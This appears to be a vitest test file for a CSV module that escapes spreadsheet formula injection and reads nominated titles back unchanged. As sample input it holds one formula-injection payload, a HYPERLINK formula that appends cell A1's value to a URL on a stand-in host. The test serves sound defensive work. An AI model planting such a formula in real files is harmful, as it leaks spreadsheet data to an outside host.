import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { toCsv } from './csv.ts';
import { readWorks, worksFile } from './works.ts';

const category = { key: 'Novel', fields: [{ key: 'title' }] } as const;

it('marks a text that a spreadsheet would run, and nothing else', () => {
  const formula = '=HYPERLINK("https://example.com/?"&A1)';
  const rows = parse(
    toCsv([[formula, '@A1', '+1', '-1', '\t=1', '\n=1', ' =1', '＝1', '1984', 'A = B', -1]]),
  ) as string[][];
  const marked = [`'${formula}`, "'@A1", "'+1", "'-1", "'\t=1", "'\n=1", "' =1", "'＝1"];
  expect(rows).toEqual([[...marked, '1984', 'A = B', '-1']]);
});

it.each(['=A1', '＠A1', '-30-', "'=A1", "''-", "'Salem’s Lot", '’'])(
  'reads the entry %s back as it was nominated',
  (title) => {
    const file = worksFile(new Map([[category, [[{ title }]]]]));
    expect(readWorks('works.csv', file).get('Novel')).toEqual(
      new Map([[title, { work: title, groups: [] }]]),
    );
  },
);
